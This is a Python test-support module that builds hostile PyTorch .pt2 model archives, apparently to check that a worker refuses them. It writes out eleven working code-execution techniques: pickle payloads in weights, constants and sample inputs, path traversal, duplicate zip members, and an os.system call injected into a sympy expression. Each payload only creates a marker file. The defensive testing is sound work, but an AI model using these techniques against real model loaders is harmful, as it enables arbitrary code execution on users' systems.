"""Hostile ``.pt2`` archives: a real ``torch.export.save`` of the corpus's MLP, edited the way an
attacker would edit it. Each payload creates its marker file when it runs.

``VARIANTS`` maps a name to its builder and to what plain ``torch.export.load`` (torch 2.14, no
protection) does with it: ``live`` when it runs the payload (test_modelio proves it in a
subprocess), ``via_torch_load`` when the payload is a pickle read through ``torch.load``, which
``TORCH_FORCE_WEIGHTS_ONLY_LOAD=1`` alone already stops.
"""
from __future__ import annotations

import functools
import io
import json
import os
import pickle
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .hostile_corpus import _OpensFile, _RunsShell, mlp_module, weights


@functools.cache
def mlp_pt2(seed: int = 1) -> bytes:
    """The corpus's MLP (fc1: 64 -> 16, fc2: 16 -> 10 on 1x8x8 images), dynamic batch; its
    state-dict names are the ONNX model's initializer names, so it is also a valid checkpoint."""
    import torch

    m = mlp_module().eval()
    m.load_state_dict({k: torch.from_numpy(v) for k, v in weights(seed).items()})
    ep = torch.export.export(m, (torch.rand(2, 1, 8, 8),),
                             dynamic_shapes=({0: torch.export.Dim("batch")},))
    buf = io.BytesIO()
    torch.export.save(ep, buf)
    return buf.getvalue()


def _parts(pt2: bytes) -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(pt2)) as z:
        names = z.namelist()
        root = names[0].split("/", 1)[0]
        return root, {n.split("/", 1)[1]: z.read(n) for n in names}


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one variant
        with zipfile.ZipFile(buf, "w") as z:
            for name, data in members:
                z.writestr(name, data)
    return buf.getvalue()


def _rebuild(rel: dict[str, bytes], root: str, extra: list[tuple[str, bytes]] = ()) -> bytes:
    return _zip([(f"{root}/{k}", v) for k, v in rel.items()] + list(extra))


def torch_pickle(payload: object) -> bytes:
    """What torch.save writes: torch.load(weights_only=False) runs the payload."""
    import torch

    buf = io.BytesIO()
    torch.save({"x": payload}, buf)
    return buf.getvalue()


def _payload(marker: Path, i: int) -> object:
    return _RunsShell(marker) if i % 2 else _OpensFile(marker)


def _cfg(rel: dict[str, bytes], which: str) -> tuple[str, dict]:
    name = f"data/{which}/model_{which}_config.json"
    return name, json.loads(rel[name])


# --- the variants ----------------------------------------------------------------------------

def legacy_root(marker: Path) -> bytes:
    """The pre-2.8 layout torch.export.load falls back to: pickles at the zip's top level."""
    from torch._export.serde.schema import SCHEMA_VERSION

    _, rel = _parts(mlp_pt2())
    evil = torch_pickle(_RunsShell(marker))
    return _zip([("version", ".".join(map(str, SCHEMA_VERSION)).encode()),
                 ("serialized_exported_program.json", rel["models/model.json"]),
                 ("serialized_state_dict.pt", evil), ("serialized_constants.pt", evil),
                 ("serialized_example_inputs.pt", evil)])


def legacy_weights_member(marker: Path) -> bytes:
    """``data/weights/model.pt``: the in-folder legacy weights file, read before the config."""
    root, rel = _parts(mlp_pt2())
    rel["data/weights/model.pt"] = torch_pickle(_OpensFile(marker))
    return _rebuild(rel, root)


def duplicate_path_name(marker: Path) -> bytes:
    """Two weight entries on one path_name: a raw one (an older check skipped the file as raw)
    and a pickled one, listed first, which the loader unpickles."""
    root, rel = _parts(mlp_pt2())
    name, cfg = _cfg(rel, "weights")
    first = next(iter(cfg["config"].values()))
    evil = torch_pickle(_RunsShell(marker))
    rel[f"data/weights/{first['path_name']}"] = evil + bytes(-len(evil) % 8)  # a whole dtype
    cfg["config"] = {"zz_alias": {**first, "use_pickle": True}, **cfg["config"]}
    rel[name] = json.dumps(cfg).encode()
    return _rebuild(rel, root)


def pickled_weight(marker: Path) -> bytes:
    root, rel = _parts(mlp_pt2())
    name, cfg = _cfg(rel, "weights")
    entry = next(iter(cfg["config"].values()))
    entry["use_pickle"] = True
    rel[f"data/weights/{entry['path_name']}"] = torch_pickle(_OpensFile(marker))
    rel[name] = json.dumps(cfg).encode()
    return _rebuild(rel, root)


def path_traversal(marker: Path) -> bytes:
    """A pickled entry whose path_name climbs out of data/weights/ to a member of its own."""
    root, rel = _parts(mlp_pt2())
    name, cfg = _cfg(rel, "weights")
    cfg["config"]["zz_up"] = {**next(iter(cfg["config"].values())), "use_pickle": True,
                              "path_name": "../../extra/evil.pt"}
    rel[name] = json.dumps(cfg).encode()
    rel["extra/evil.pt"] = torch_pickle(_RunsShell(marker))
    return _rebuild(rel, root)


def unreferenced_pickle(marker: Path) -> bytes:
    root, rel = _parts(mlp_pt2())
    rel["data/weights/evil.pt"] = torch_pickle(_OpensFile(marker))
    return _rebuild(rel, root)


def pickled_constant(marker: Path) -> bytes:
    root, rel = _parts(mlp_pt2())
    name, cfg = _cfg(rel, "constants")
    cfg["config"]["c0"] = {"path_name": "tensor_0", "is_param": False, "use_pickle": True,
                           "tensor_meta": None}
    rel[name] = json.dumps(cfg).encode()
    rel["data/constants/tensor_0"] = torch_pickle(_RunsShell(marker))
    return _rebuild(rel, root)


def opaque_constant(marker: Path) -> bytes:
    """An ``opaque_obj_`` constant: torch reads it with plain pickle.loads."""
    root, rel = _parts(mlp_pt2())
    name, cfg = _cfg(rel, "constants")
    cfg["config"]["c0"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                           "tensor_meta": None}
    rel[name] = json.dumps(cfg).encode()
    rel["data/constants/opaque_obj_0"] = pickle.dumps(_OpensFile(marker))
    return _rebuild(rel, root)


def sympy_expression(marker: Path) -> bytes:
    """The batch size's symbol rewritten as Python: torch parses it with sympy.sympify (eval)."""
    root, rel = _parts(mlp_pt2())
    text = rel["models/model.json"].decode()
    start = text.index('"expr_str": "') + len('"expr_str": "')
    end = text.index('"', start)
    code = f"__import__('os').system('touch {marker}')"
    rel["models/model.json"] = (text[:start] + code.replace("'", "\\u0027") + text[end:]).encode()
    return _rebuild(rel, root)


def pickled_sample_inputs(marker: Path) -> bytes:
    """torch retries a failed weights-only load of the sample inputs with weights_only=False."""
    root, rel = _parts(mlp_pt2())
    rel["data/sample_inputs/model.pt"] = torch_pickle(_OpensFile(marker))
    return _rebuild(rel, root)


def duplicate_member(marker: Path) -> bytes:
    """The sample inputs twice: a payload, then a clean copy (readers disagree on which counts)."""
    root, rel = _parts(mlp_pt2())
    clean = rel.pop("data/sample_inputs/model.pt")
    return _rebuild({"data/sample_inputs/model.pt": torch_pickle(_RunsShell(marker)), **rel}, root,
                    [(f"{root}/data/sample_inputs/model.pt", clean)])


@dataclass(frozen=True)
class Variant:
    build: Callable[[Path], bytes]
    live: bool            # plain torch.export.load runs the payload
    via_torch_load: bool  # ... through torch.load (TORCH_FORCE_WEIGHTS_ONLY_LOAD stops it)
    words: tuple[str, ...] = ()  # what the refusal names


VARIANTS: dict[str, Variant] = {
    "legacy root layout": Variant(legacy_root, True, True, ("top of the zip",)),
    "legacy weights member": Variant(legacy_weights_member, True, True, ("data/weights/model.pt",)),
    "duplicate path_name": Variant(duplicate_path_name, True, True, ("use_pickle",)),
    "pickled weight": Variant(pickled_weight, True, True, ("use_pickle",)),
    "path_name traversal": Variant(path_traversal, False, True, ("../../extra/evil.pt",)),
    "unreferenced pickle": Variant(unreferenced_pickle, False, True, ("data/weights/evil.pt",)),
    "pickled constant": Variant(pickled_constant, True, True, ("use_pickle",)),
    "opaque constant": Variant(opaque_constant, True, False, ("opaque_obj_0",)),
    "sympy expression": Variant(sympy_expression, True, False, ("symbolic expression",)),
    "pickled sample inputs": Variant(pickled_sample_inputs, True, True,
                                     ("sample_inputs", "GLOBAL io.open")),
    "duplicate zip member": Variant(duplicate_member, False, True, ("twice",)),
}


def marker_for(root: Path, variant: str, where: str) -> Path:
    return root / f"pwned-pt2-{variant.replace(' ', '-')}-{where}"


def write_all(root: Path, where: str = "probe") -> dict[str, Path]:
    """Every variant under ``root`` as ``<name>.pt2``; returns name -> archive path."""
    root.mkdir(parents=True, exist_ok=True)
    out = {}
    for name, v in VARIANTS.items():
        p = root / f"{name.replace(' ', '-')}.pt2"
        p.write_bytes(v.build(marker_for(root, name, where)))
        out[name] = p
    return out


# A child that loads every archive with plain torch.export.load and prints which markers exist.
# ``protect`` imports worker.engine first (which forces TORCH_FORCE_WEIGHTS_ONLY_LOAD=1); the
# archive check is bypassed on purpose.
PROBE = """
import json, os, sys
if sys.argv[1] == "protect":
    import worker.engine  # noqa: F401
import torch
ran = {}
for name, path, marker in json.loads(sys.argv[2]):
    try:
        torch.export.load(path)
    except Exception:
        pass
    ran[name] = os.path.exists(marker)
print(json.dumps({"ran": ran, "env": os.environ.get("TORCH_FORCE_WEIGHTS_ONLY_LOAD")}))
"""


def probe(archives: dict[str, Path], markers: dict[str, Path], *, protect: bool) -> dict:
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith("TORCH_FORCE")}
    args = json.dumps([[n, str(p), str(markers[n])] for n, p in archives.items()])
    r = subprocess.run([sys.executable, "-c", PROBE, "protect" if protect else "plain", args],
                       capture_output=True, text=True, env=env, timeout=600, check=False)
    assert r.returncode == 0, r.stderr[-2000:]
    return json.loads(r.stdout.strip().splitlines()[-1])
